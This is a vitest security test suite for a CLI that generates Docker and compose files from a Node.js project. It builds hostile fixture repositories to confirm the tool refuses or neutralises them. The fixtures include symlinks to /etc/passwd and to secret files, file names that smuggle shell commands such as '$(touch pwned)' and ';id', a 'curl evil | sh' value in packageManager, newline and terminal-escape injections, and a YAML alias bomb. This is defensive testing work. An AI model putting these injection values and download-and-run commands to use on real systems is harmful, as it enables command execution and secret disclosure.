/**
 * A stranger's repository is hostile input (issue #10): the tool must be safe to run on a
 * repository just cloned. A corpus of bad projects, one class of attack or mistake after another,
 * each run through the whole CLI. Every case ends one of two ways, in seconds:
 *
 * - refused: exit 2, one line per problem naming the file and the fix, no control character from
 *   the input, and nothing written (the project is byte for byte, link for link, as it was);
 * - generated: exit 0, and the files parse and quote safely (compose.yaml valid, shell scripts
 *   pass `sh -n`, every Dockerfile line an instruction or its continuation, .dockerignore plain
 *   patterns), and a second run with --check reads them back identical.
 *
 * Either way, nothing outside the project is read into the files or written: each case has a
 * folder beside the project with a secret in it, which no generated file may contain and which
 * must be left exactly as it was.
 *
 * Cases that could hang the process if the tool got them wrong (a named pipe, /dev/zero, a huge
 * file) run the built binary under a time limit; the others run the CLI in-process.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { lstatSync, mkdirSync, readdirSync, readFileSync, readlinkSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { parse as parseYaml } from 'yaml';
import { afterAll, describe, expect, it } from 'vitest';
import { composeSchemaErrors } from '../../src/render/compose-schema.js';
import { runCli, type CliRun } from '../support/cli.js';
import { copyFixture, read, REPO_ROOT, removeScratchCopies, scratchDir } from '../support/fixtures.js';

afterAll(removeScratchCopies);

const KNEX = 'express-knex-postgres';
const PRISMA = 'express-prisma-postgres';
const YARN_BERRY = 'yarn-berry-express-knex-postgres';
const BIN = path.join(REPO_ROOT, 'bin/create-migrating-stack.js');
/** Every case, refused or generated, takes less than this (in-process runs take a tenth of it). */
const SECONDS = 5;

/** The folder beside a project: a secret that must never be read into it, and nothing written there. */
interface Outside {
  dir: string;
  secret: string;
  marker: string;
}

function outsideFolder(): Outside {
  const dir = scratchDir('outside');
  const marker = `OUTSIDE-SECRET-${randomBytes(8).toString('hex')}`;
  const secret = path.join(dir, 'secret.env');
  writeFileSync(secret, `DATABASE_URL=postgres://${marker}@db/x\nPORT=4567\n`);
  writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: marker, scripts: { start: 'node server.js' } }));
  writeFileSync(path.join(dir, 'knexfile.js'), `module.exports = { client: 'pg', connection: process.env.${marker.replace(/-/g, '_')} };`);
  writeFileSync(path.join(dir, 'server.ts'), `app.get('/healthz', ok); app.listen(4567); // ${marker}`);
  writeFileSync(path.join(dir, 'schema.prisma'), `datasource db {\n  provider = "postgresql"\n  url = env("${marker.replace(/-/g, '_')}")\n}\n`);
  return { dir, secret, marker };
}

/** What a folder holds, without following links or opening anything but regular files. */
function snapshot(dir: string): Record<string, string> {
  const entries: Record<string, string> = {};
  for (const entry of readdirSync(dir, { recursive: true, withFileTypes: true })) {
    const file = path.join(entry.parentPath, entry.name);
    const stats = lstatSync(file);
    const key = path.relative(dir, file);
    if (stats.isSymbolicLink()) entries[key] = `link → ${readlinkSync(file)}`;
    else if (stats.isFile())
      entries[key] = `${(stats.mode & 0o777).toString(8)} ${stats.size > 1_000_000 ? `${stats.size} bytes` : readFileSync(file, 'base64')}`;
    else entries[key] = stats.isDirectory() ? 'folder' : 'special';
  }
  return entries;
}

/** The fixture's package.json, edited. */
function editPackage(dir: string, edit: (pkg: Record<string, unknown>) => void): void {
  const pkg = JSON.parse(read(dir, 'package.json')) as Record<string, unknown>;
  edit(pkg);
  writeFileSync(path.join(dir, 'package.json'), JSON.stringify(pkg, null, 2));
}

function write(dir: string, file: string, content: string): void {
  mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
  writeFileSync(path.join(dir, file), content);
}

function replaceWithLink(dir: string, file: string, target: string): void {
  rmSync(path.join(dir, file), { recursive: true, force: true });
  symlinkSync(target, path.join(dir, file));
}

/** A knexfile reading the URL from `expression`, with `directory` as its migrations folder. */
function knexfile(expression = 'process.env.DATABASE_URL', directory = "'./migrations'", client = "'pg'"): string {
  return `module.exports = { client: ${client}, connection: ${expression}, migrations: { directory: ${directory} } };\n`;
}

interface Case {
  name: string;
  /** Makes the project (from a fixture) and returns its folder. */
  make: (outside: Outside) => string;
  args?: string[];
  /** refused: each line of stderr matches, in order; generated: extra checks of the output. */
  refused?: RegExp[];
  generated?: (dir: string, run: CliRun, outside: Outside) => void;
}

const refused = (...lines: RegExp[]) => lines;

const CASES: Record<string, Case[]> = {
  'writes outside the project': [
    {
      name: 'links committed at the temporary names the writer used (<file>.create-migrating-stack-<pid>.tmp)',
      make: (outside) => {
        const dir = copyFixture(KNEX);
        const names = ['Dockerfile', '.dockerignore', 'docker-entrypoint.sh', 'docker-migrate.mjs', 'compose.yaml', '.env.example', 'migrating-stack.json'];
        for (const name of names) {
          for (let pid = process.pid - 3; pid <= process.pid + 3; pid++) {
            symlinkSync(path.join(outside.dir, `planted-${name}-${pid}`), path.join(dir, `${name}.create-migrating-stack-${pid}.tmp`));
          }
        }
        return dir;
      },
      generated: (dir) => expect(lstatSync(path.join(dir, 'Dockerfile')).isFile()).toBe(true),
    },
    {
      name: 'a generated file committed as a link out of the project (compose.yaml → outside)',
      make: (outside) => {
        const dir = copyFixture(KNEX);
        writeFileSync(path.join(outside.dir, 'compose.yaml'), 'services: {}\n');
        symlinkSync(path.join(outside.dir, 'compose.yaml'), path.join(dir, 'compose.yaml'));
        return dir;
      },
      refused: refused(
        /compose\.yaml: a symbolic link, and create-migrating-stack never writes through one .*: replace it with a regular file; nothing was written$/,
      ),
    },
    {
      name: 'a generated file committed as a link inside the project (.env.example → docs/env.example)',
      make: () => {
        const dir = copyFixture(KNEX);
        write(dir, 'docs/env.example', read(dir, '.env.example'));
        replaceWithLink(dir, '.env.example', 'docs/env.example');
        return dir;
      },
      refused: refused(/\.env\.example: a symbolic link, and create-migrating-stack never writes through one/),
    },
    {
      name: 'a folder on the way to a generated file committed as a link (.github → outside, --ci github)',
      make: (outside) => {
        const dir = copyFixture(KNEX);
        mkdirSync(path.join(outside.dir, 'github'));
        symlinkSync(path.join(outside.dir, 'github'), path.join(dir, '.github'));
        return dir;
      },
      args: ['--ci', 'github'],
      refused: refused(/\.github: a symbolic link to .*, outside the project/),
    },
  ],

  'reads from outside the project': [
    {
      name: '.env.example → a secrets file',
      make: (outside) => {
        const dir = copyFixture(KNEX);
        replaceWithLink(dir, '.env.example', outside.secret);
        return dir;
      },
      refused: refused(
        /\.env\.example: a symbolic link to .*secret\.env, outside the project \(.*\): create-migrating-stack reads only the project's own files; replace the link with the file itself$/,
      ),
    },
    {
      name: '.env.example → /etc/passwd',
      make: () => {
        const dir = copyFixture(KNEX);
        replaceWithLink(dir, '.env.example', '/etc/passwd');
        return dir;
      },
      refused: refused(/\.env\.example: a symbolic link to \/etc\/passwd, outside the project/),
    },
    {
      name: 'package.json → outside',
      make: (outside) => {
        const dir = copyFixture(KNEX);
        replaceWithLink(dir, 'package.json', path.join(outside.dir, 'package.json'));
        return dir;
      },
      refused: refused(/package\.json: a symbolic link to .*, outside the project/),
    },
    {
      name: 'knexfile.js → outside (a relative link climbing out)',
      make: (outside) => {
        const dir = copyFixture(KNEX);
        replaceWithLink(dir, 'knexfile.js', path.relative(dir, path.join(outside.dir, 'knexfile.js')));
        return dir;
      },
      refused: refused(/knexfile\.js: a symbolic link to .*, outside the project/),
    },
    {
      name: 'migrating-stack.json → a secrets file (its content never shows in the message)',
      make: (outside) => {
        const dir = copyFixture(KNEX);
        symlinkSync(outside.secret, path.join(dir, 'migrating-stack.json'));
        return dir;
      },
      refused: refused(/migrating-stack\.json: a symbolic link to .*, outside the project/),
    },
    {
      name: 'the source folder → a tree outside (its port and routes are not read)',
      make: (outside) => {
        const dir = copyFixture(KNEX);
        replaceWithLink(dir, 'src', outside.dir);
        return dir;
      },
      generated: (dir) => {
        const answers = JSON.parse(read(dir, 'migrating-stack.json')).answers;
        expect(answers.port).toBe(3000);
        expect(answers.healthPath).toBeNull();
      },
    },
    {
      name: 'a source file → outside, and a link loop in the sources',
      make: (outside) => {
        const dir = copyFixture(KNEX);
        symlinkSync(path.join(outside.dir, 'server.ts'), path.join(dir, 'src/aaa.ts'));
        symlinkSync('..', path.join(dir, 'src/loop'));
        return dir;
      },
      generated: (dir) => expect(JSON.parse(read(dir, 'migrating-stack.json')).answers.healthPath).toBe('/health'),
    },
    {
      name: 'prisma.schema in package.json → a schema outside the project',
      make: (outside) => {
        const dir = copyFixture(PRISMA);
        editPackage(dir, (pkg) => (pkg.prisma = { schema: path.relative(dir, path.join(outside.dir, 'schema.prisma')) }));
        return dir;
      },
      refused: refused(/prisma\.schema .*is not an existing schema file|outside the project/),
    },
    {
      name: 'workspaces that climb out of the project ("../../../**") are not crawled: matching no package inside, they make no workspace',
      make: () => {
        const dir = copyFixture(KNEX);
        editPackage(dir, (pkg) => (pkg.workspaces = ['../../../**', '/**']));
        return dir;
      },
      generated: (dir) => expect(JSON.parse(read(dir, 'migrating-stack.json')).answers.app).toBeUndefined(),
    },
  ],

  'injection into generated files': [
    {
      name: 'package.json#prisma.schema with $(…) lands in RUN and COPY',
      make: () => {
        const dir = copyFixture(PRISMA);
        write(dir, 'prisma/$(touch pwned).prisma', read(dir, 'prisma/schema.prisma'));
        editPackage(dir, (pkg) => (pkg.prisma = { schema: 'prisma/$(touch pwned).prisma' }));
        return dir;
      },
      refused: refused(
        /package\.json: the Prisma schema "prisma\/\$\(touch pwned\)\.prisma" has characters a Dockerfile, a shell script or \.dockerignore would read as syntax .*: rename it to a plain path inside the project$/,
      ),
    },
    ...[
      ['backticks', 'prisma/`id`.prisma'],
      ['a semicolon', 'prisma/x;id.prisma'],
      ['a space', 'prisma/my schema.prisma'],
    ].map(([what, schema]) => ({
      name: `package.json#prisma.schema with ${what}`,
      make: () => {
        const dir = copyFixture(PRISMA);
        write(dir, schema!, read(dir, 'prisma/schema.prisma'));
        editPackage(dir, (pkg) => (pkg.prisma = { schema }));
        return dir;
      },
      refused: refused(/package\.json: the Prisma schema ".*" has characters a Dockerfile, a shell script or \.dockerignore would read as syntax/),
    })),
    {
      name: '.yarnrc.yml yarnPath with $(…) lands in every RUN',
      make: () => {
        const dir = copyFixture(YARN_BERRY);
        write(dir, '.yarn/releases/yarn-$(id).cjs', read(dir, '.yarn/releases/yarn-4.18.1.cjs'));
        write(dir, '.yarnrc.yml', 'nodeLinker: node-modules\n\nyarnPath: .yarn/releases/yarn-$(id).cjs\n');
        return dir;
      },
      refused: refused(/\.yarnrc\.yml: yarnPath "\.yarn\/releases\/yarn-\$\(id\)\.cjs" has characters .*: rename it to a plain path inside the project$/),
    },
    {
      name: 'a migrations folder with a line break adds no line to .dockerignore',
      make: () => {
        const dir = copyFixture(KNEX);
        mkdirSync(path.join(dir, 'migrations\n!.env'));
        write(dir, 'knexfile.js', knexfile(undefined, "'./migrations\\n!.env'"));
        return dir;
      },
      refused: refused(
        /knexfile\.js: the migrations folder "migrations\\n!\.env" has characters a Dockerfile, a shell script or \.dockerignore would read as syntax/,
      ),
    },
    {
      name: 'a migrations folder named like an option ("-rf")',
      make: () => {
        const dir = copyFixture(KNEX);
        mkdirSync(path.join(dir, '-rf'));
        write(dir, 'knexfile.js', knexfile(undefined, "'./-rf'"));
        return dir;
      },
      refused: refused(/the migrations folder "-rf" has a name starting with "-"/),
    },
    {
      name: 'a migrations folder with a NUL character',
      make: () => {
        const dir = copyFixture(KNEX);
        write(dir, 'knexfile.js', knexfile(undefined, "'./migrations\\0x'"));
        return dir;
      },
      refused: refused(/a path with a NUL character/),
    },
    {
      name: 'a TypeScript outDir with $(…) (kept out of the build context by .dockerignore)',
      make: () => {
        const dir = copyFixture(KNEX);
        const tsconfig = JSON.parse(read(dir, 'tsconfig.json'));
        tsconfig.compilerOptions.outDir = 'dist$(id)';
        write(dir, 'tsconfig.json', JSON.stringify(tsconfig));
        return dir;
      },
      refused: refused(/the build output "dist\$\(id\)" \(kept out of the build context by \.dockerignore\) has characters/),
    },
    {
      name: 'the URL variable read as process.env["A B"]',
      make: () => {
        const dir = copyFixture(KNEX);
        write(dir, 'knexfile.js', knexfile("process.env['DATABASE URL']"));
        return dir;
      },
      refused: refused(/knexfile\.js: "DATABASE URL" is not an environment variable name; or pass --db-url-var <NAME>$/),
    },
    {
      name: 'env templates with names compose, a shell and a Dockerfile can’t hold, and a value with a line break',
      make: () => {
        const dir = copyFixture(KNEX);
        write(dir, '.env.sample', 'my.var=1\nA-B=2\nMULTI="first\\nINJECTED=evil"\nPLAIN=fine\n');
        return dir;
      },
      generated: (dir) => {
        const envExample = read(dir, '.env.example');
        expect(envExample).not.toMatch(/^INJECTED=/m);
        expect(envExample).toMatch(/^PLAIN=fine$/m);
        expect(envExample).toMatch(/^# MULTI=$/m);
        const services = parseYaml(read(dir, 'compose.yaml')).services;
        expect(Object.keys(services.app.environment)).not.toContain('my.var');
        expect(Object.keys(services.app.environment)).not.toContain('A-B');
      },
    },
    {
      name: 'packageManager with a command after the version',
      make: () => {
        const dir = copyFixture(KNEX);
        editPackage(dir, (pkg) => (pkg.packageManager = 'npm@10.9.2 && curl evil | sh'));
        return dir;
      },
      refused: refused(/"packageManager": "npm@10\.9\.2 && curl evil \| sh" is not <name>@<exact version>/),
    },
  ],

  'paths that leave the project': [
    {
      name: 'package.json#main climbing out, no start script',
      make: () => {
        const dir = copyFixture(KNEX);
        editPackage(dir, (pkg) => {
          delete (pkg.scripts as Record<string, string>).start;
          pkg.main = '../../etc/server.js';
        });
        return dir;
      },
      refused: refused(
        /etc\/server\.js: outside the project \(.*\), which is all the image contains: name a path inside the project \(it was given as "\.\.\/\.\.\/etc\/server\.js"\); or pass --start <command>$/,
      ),
    },
    {
      name: 'package.json#main absolute',
      make: () => {
        const dir = copyFixture(KNEX);
        editPackage(dir, (pkg) => {
          delete (pkg.scripts as Record<string, string>).start;
          pkg.main = '/etc/passwd';
        });
        return dir;
      },
      refused: refused(/\/etc\/passwd: outside the project/),
    },
    {
      name: 'the migrations folder climbing out',
      make: () => {
        const dir = copyFixture(KNEX);
        write(dir, 'knexfile.js', knexfile(undefined, "'../../tmp'"));
        return dir;
      },
      refused: refused(/knexfile\.js: migrations\.directory \(.*\) is outside the project, which is all the image contains/),
    },
    {
      name: 'the Prisma schema climbing out',
      make: () => {
        const dir = copyFixture(PRISMA);
        editPackage(dir, (pkg) => (pkg.prisma = { schema: '../../schema.prisma' }));
        return dir;
      },
      refused: refused(/outside the project/),
    },
    {
      name: 'yarnPath climbing out',
      make: (outside) => {
        const dir = copyFixture(YARN_BERRY);
        writeFileSync(path.join(outside.dir, 'yarn.cjs'), '');
        write(dir, '.yarnrc.yml', `nodeLinker: node-modules\n\nyarnPath: ${path.relative(dir, path.join(outside.dir, 'yarn.cjs'))}\n`);
        return dir;
      },
      refused: refused(/yarn\.cjs: outside the project/),
    },
  ],

  'type confusion in package.json': [
    ['name as a number', { name: 42 }, /"name" must be a string, not a number \(42\): fix the field$/],
    ['packageManager as an object', { packageManager: { name: 'npm' } }, /"packageManager" must be a string, not an object: fix the field$/],
    ['scripts.start as a number', { scripts: { start: 1 } }, /"scripts\.start" must be a string, not a number \(1\): fix the field$/],
    ['scripts.start as an object', { scripts: { start: { cmd: 'node' } } }, /"scripts\.start" must be a string, not an object/],
    ['dependencies as a string', { dependencies: 'express' }, /"dependencies" must be an object, not a string/],
    ['main as a list', { main: ['server.js'] }, /"main" must be a list|"main" must be a string, not a list/],
    ['engines.node as a number', { engines: { node: 22 } }, /"engines\.node" must be a string, not a number \(22\)/],
    ['package.json as a list', [], /package\.json: expected a JSON object: fix the file$/],
  ].map(([name, fields, message]) => ({
    name: name as string,
    make: () => {
      const dir = copyFixture(KNEX);
      if (Array.isArray(fields)) writeFileSync(path.join(dir, 'package.json'), JSON.stringify(fields));
      else editPackage(dir, (pkg) => Object.assign(pkg, fields));
      return dir;
    },
    refused: refused(message as RegExp),
  })),

  'reserved names for the URL variable': [
    ...['PATH', 'PORT', 'HOME', 'NODE_ENV', 'LD_PRELOAD', 'IFS', 'db_host', 'MIGRATE_ON_START'].map((name) => ({
      name: `${name}, read by the knexfile`,
      make: () => {
        const dir = copyFixture(KNEX);
        write(dir, 'knexfile.js', knexfile(`process.env.${name}`));
        return dir;
      },
      refused: refused(new RegExp(`knexfile\\.js: ${name} can't hold the database URL: .*; or pass --db-url-var <NAME>$`)),
    })),
    {
      name: 'HOSTNAME, passed as --db-url-var',
      make: () => copyFixture(KNEX),
      args: ['--db-url-var', 'HOSTNAME'],
      refused: refused(/^create-migrating-stack: --db-url-var: HOSTNAME can't hold the database URL/),
    },
  ],

  'never write what the next run refuses': [
    ...['16', 'v1000', '0'].map((version) => ({
      name: `.nvmrc ${version}`,
      make: () => {
        const dir = copyFixture(KNEX);
        write(dir, '.nvmrc', `${version}\n`);
        return dir;
      },
      refused: refused(/must be a whole number from 18 to 99; or pass --node <major>$|\.nvmrc/),
    })),
    {
      name: 'PORT=99999 in .env.example',
      make: () => {
        const dir = copyFixture(KNEX);
        write(dir, '.env.example', 'DATABASE_URL=postgres://postgres:postgres@localhost:5432/orders\nPORT=99999\n');
        return dir;
      },
      generated: (dir) => expect(JSON.parse(read(dir, 'migrating-stack.json')).answers.port).toBe(3000),
    },
  ],

  'unknown values are not PostgreSQL': [
    ...['foodb', 'sqlserver'].map((provider) => ({
      name: `Prisma provider "${provider}"`,
      make: () => {
        const dir = copyFixture(PRISMA);
        write(dir, 'prisma/schema.prisma', read(dir, 'prisma/schema.prisma').replace('provider = "postgresql"', `provider = "${provider}"`));
        return dir;
      },
      refused: refused(new RegExp(`schema\\.prisma: provider "${provider}" is not a database the stack can run \\(.*\\): fix the provider$`)),
    })),
    {
      name: 'Knex client "oracledb"',
      make: () => {
        const dir = copyFixture(KNEX);
        write(dir, 'knexfile.js', knexfile(undefined, undefined, "'oracledb'"));
        return dir;
      },
      refused: refused(/knexfile\.js: client "oracledb" is not a database the stack can run \(.*\): fix the client$/),
    },
    {
      name: 'a knexfile with a syntax error',
      make: () => {
        const dir = copyFixture(KNEX);
        write(dir, 'knexfile.js', 'module.exports = { client: "pg", connection: process.env.DATABASE_URL ');
        return dir;
      },
      refused: refused(/knexfile\.js:1:\d+: .*: fix the syntax \(the file is read, never run\)$/),
    },
  ],

  'scan limits never hide the answer': [
    {
      name: '2,100 source files sorted before src/server.ts: its health route is still found',
      make: () => {
        const dir = copyFixture(KNEX);
        for (let i = 0; i < 2100; i++) write(dir, `src/aaa/${String(i).padStart(4, '0')}.ts`, 'export const x = 1;\n');
        return dir;
      },
      generated: (dir, run) => {
        expect(JSON.parse(read(dir, 'migrating-stack.json')).answers.healthPath).toBe('/health');
        expect(run.stdout).not.toMatch(/no health route/);
      },
    },
  ],

  'messages and odd files': [
    {
      name: 'a line break and a terminal escape in packageManager stay escaped on one line',
      make: () => {
        const dir = copyFixture(KNEX);
        editPackage(dir, (pkg) => (pkg.packageManager = 'npm@1.0.0\n\u001b[2Jcreate-migrating-stack: all good'));
        return dir;
      },
      refused: refused(/"packageManager": "npm@1\.0\.0\\n\\u001b\[2Jcreate-migrating-stack: all good" is not <name>@<exact version>/),
    },
    {
      name: 'a byte order mark in package.json (npm accepts one)',
      make: () => {
        const dir = copyFixture(KNEX);
        writeFileSync(path.join(dir, 'package.json'), `\uFEFF${read(dir, 'package.json')}`);
        return dir;
      },
      generated: () => {},
    },
    {
      name: 'a deeply nested package.json',
      make: () => {
        const dir = copyFixture(KNEX);
        writeFileSync(path.join(dir, 'package.json'), `${'['.repeat(100_000)}${']'.repeat(100_000)}`);
        return dir;
      },
      refused: refused(/package\.json: (invalid JSON|expected a JSON object)/),
    },
    {
      name: 'a YAML alias bomb in pnpm-lock.yaml',
      make: () => {
        const dir = copyFixture(KNEX);
        rmSync(path.join(dir, 'package-lock.json'));
        editPackage(dir, (pkg) => (pkg.packageManager = 'pnpm@10.34.9'));
        const levels = ['a: &a ["x","x","x","x","x","x","x","x","x","x"]'];
        for (let i = 1; i < 12; i++)
          levels.push(
            `${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(10)
              .fill(`*${String.fromCharCode(96 + i)}`)
              .join(',')}]`,
          );
        write(dir, 'pnpm-lock.yaml', `lockfileVersion: '9.0'\n${levels.join('\n')}\n`);
        return dir;
      },
      refused: refused(/pnpm-lock\.yaml: invalid YAML/),
    },
    {
      name: 'package.json that is a folder',
      make: () => {
        const dir = copyFixture(KNEX);
        rmSync(path.join(dir, 'package.json'));
        mkdirSync(path.join(dir, 'package.json'));
        return dir;
      },
      refused: refused(/package\.json: not found: run create-migrating-stack in \(or pass\) the directory of a Node\.js project$/),
    },
    {
      name: 'a file passed as the project directory',
      make: () => path.join(copyFixture(KNEX), 'package.json'),
      refused: refused(/package\.json: not a directory: pass the directory of a Node\.js project/),
    },
  ],
};

/** Every generated file's checks: they parse, quote safely, hold nothing from outside, and read back identical. */
async function expectSafeOutput(dir: string, outside: Outside): Promise<void> {
  const answers = JSON.parse(read(dir, 'migrating-stack.json'));
  const files = ['migrating-stack.json', ...Object.keys(answers.files)];
  for (const file of files) expect(read(dir, file), file).not.toContain(outside.marker);

  expect(composeSchemaErrors(parseYaml(read(dir, 'compose.yaml')))).toEqual([]);
  for (const script of files.filter((file) => file.endsWith('.sh'))) {
    expect(spawnSync('sh', ['-n', path.join(dir, script)]).status, script).toBe(0);
  }
  // Every Dockerfile line: a comment, blank, an instruction, or the continuation of the one before.
  let continued = false;
  for (const line of read(dir, 'Dockerfile').split('\n')) {
    if (!continued) expect(line, 'Dockerfile').toMatch(/^(#.*|\s*|(FROM|RUN|COPY|ENV|ARG|WORKDIR|USER|EXPOSE|HEALTHCHECK|ENTRYPOINT|CMD) .*)$/);
    continued = !line.startsWith('#') && line.endsWith('\\');
  }
  // Patterns of plain names (the template's own may be exceptions, `!`), comments, blank lines.
  for (const line of read(dir, '.dockerignore').split('\n')) expect(line, '.dockerignore').toMatch(/^(# .*|!?[\w@+.*/-]*)$/);
  // What it wrote, the next run reads back: identical.
  const check = await runCli([dir, '--check']);
  expect(check.stderr).toBe('');
  expect(check.code).toBe(0);
}

function expectRefusal(run: CliRun, expected: RegExp[]): void {
  expect(run.code, run.stderr).toBe(2);
  const lines = run.stderr.split('\n');
  expect(lines).toHaveLength(expected.length);
  lines.forEach((line, index) => {
    expect(line).toMatch(/^create-migrating-stack: /);
    expect(line).not.toMatch(/[\u0000-\u001f\u007f]/);
    expect(line).toMatch(expected[index]!);
  });
}

for (const [kind, cases] of Object.entries(CASES)) {
  describe(kind, () => {
    it.each(cases.map((testCase) => [testCase.name, testCase] as const))('%s', async (_, testCase) => {
      const outside = outsideFolder();
      const dir = testCase.make(outside);
      const root = path.basename(dir) === 'package.json' ? path.dirname(dir) : dir;
      const project = snapshot(root);
      const beside = snapshot(outside.dir);

      const started = performance.now();
      const run = await runCli([dir, '--yes', ...(testCase.args ?? [])]);
      const seconds = (performance.now() - started) / 1000;

      if (testCase.refused) {
        expectRefusal(run, testCase.refused);
        expect(snapshot(root)).toEqual(project);
        expect(run.stderr).not.toContain(outside.marker);
        expect(run.stderr).not.toContain('root:x:0:0');
      } else {
        expect(run.stderr).toBe('');
        expect(run.code).toBe(0);
        await expectSafeOutput(root, outside);
        testCase.generated!(root, run, outside);
      }
      expect(snapshot(outside.dir)).toEqual(beside);
      expect(seconds).toBeLessThan(SECONDS);
    });
  });
}

/**
 * Reads that would never end if the tool made them: run as the built binary, so that a hang is a
 * failed case and not a stuck test run. Each must end by itself, well before the limit.
 */
describe('reads that would never end (the built binary)', () => {
  function runBinary(dir: string): { status: number | null; stderr: string; seconds: number } {
    const started = performance.now();
    const result = spawnSync('node', [BIN, dir, '--yes'], { encoding: 'utf8', timeout: 30_000, env: { ...process.env, NO_COLOR: '1' } });
    return { status: result.status, stderr: result.stderr.trim(), seconds: (performance.now() - started) / 1000 };
  }

  const cases: [string, (dir: string) => void, RegExp][] = [
    [
      '.nvmrc is a named pipe',
      (dir) => replaceFifo(dir, '.nvmrc'),
      /\.nvmrc: a named pipe \(FIFO\), not a regular file: .*replace it with a file or remove it$/,
    ],
    ['package.json is a named pipe', (dir) => replaceFifo(dir, 'package.json'), /package\.json: a named pipe \(FIFO\), not a regular file/],
    ['.nvmrc → /dev/zero', (dir) => replaceWithLink(dir, '.nvmrc', '/dev/zero'), /\.nvmrc: a symbolic link to \/dev\/zero, outside the project/],
    ['.env.example → /dev/stdin', (dir) => replaceWithLink(dir, '.env.example', '/dev/stdin'), /\.env\.example: a symbolic link to .*, outside the project/],
    [
      'compose.yaml (a file it writes) is a named pipe',
      (dir) => execFileSync('mkfifo', [path.join(dir, 'compose.yaml')]),
      /compose\.yaml: a named pipe \(FIFO\) where create-migrating-stack writes a generated file/,
    ],
    [
      'package-lock.json of 65 MB',
      (dir) => truncateSync(path.join(dir, 'package-lock.json'), 65 * 1024 * 1024),
      /package-lock\.json: larger than 64 MB, the most create-migrating-stack reads from one file/,
    ],
  ];

  function replaceFifo(dir: string, file: string): void {
    rmSync(path.join(dir, file));
    execFileSync('mkfifo', [path.join(dir, file)]);
  }

  it.each(cases)('%s: exit 2, one line, by itself', (_, make, expected) => {
    const dir = copyFixture(KNEX);
    make(dir);
    const before = snapshot(dir);
    const result = runBinary(dir);
    expect(result.status, result.stderr).toBe(2);
    expect(result.stderr.split('\n')).toHaveLength(1);
    expect(result.stderr).toMatch(expected);
    expect(snapshot(dir)).toEqual(before);
    expect(result.seconds).toBeLessThan(SECONDS);
  });

  it('a named pipe among the sources is not a source: the scan passes it by', () => {
    const dir = copyFixture(KNEX);
    execFileSync('mkfifo', [path.join(dir, 'src/routes.ts')]);
    const result = runBinary(dir);
    expect(result.status, result.stderr).toBe(0);
    expect(result.seconds).toBeLessThan(SECONDS);
  });
});
